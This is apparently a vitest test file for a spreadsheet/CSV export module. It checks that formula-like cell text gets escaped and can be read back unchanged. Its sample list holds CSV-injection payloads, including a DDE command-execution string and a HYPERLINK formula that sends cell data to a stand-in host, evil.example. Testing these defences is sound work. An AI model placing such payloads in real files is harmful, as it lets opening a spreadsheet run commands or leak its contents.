import { expect, test } from 'vitest'
import { csvLine, plainCell, safeCell } from './spreadsheet.ts'

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1)',
  '+49 30 555 0100',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
]

test('CS-F12: no cell of a file is a formula, whatever somebody has called himself', () => {
  for (const text of formulas) expect([text, /^[=+\-@\t\r＝]/.test(safeCell(text))]).toEqual([text, false])
  expect(csvLine(['Dora', '=HYPERLINK("x","y")', '+1'])).toBe(`Dora,"'=HYPERLINK(""x"",""y"")",'+1`)
})

test('CS-F12: other texts stay as they are, and what was written is read again as it was', () => {
  for (const text of ['Dora Dekker', 'NL, US', "'t Hooft", '', "o'neil@x.example", '한국 = 좋다'])
    expect(safeCell(text)).toBe(text)
  for (const text of [...formulas, "'t Hooft", 'Dora']) expect(plainCell(safeCell(text))).toBe(text)
})
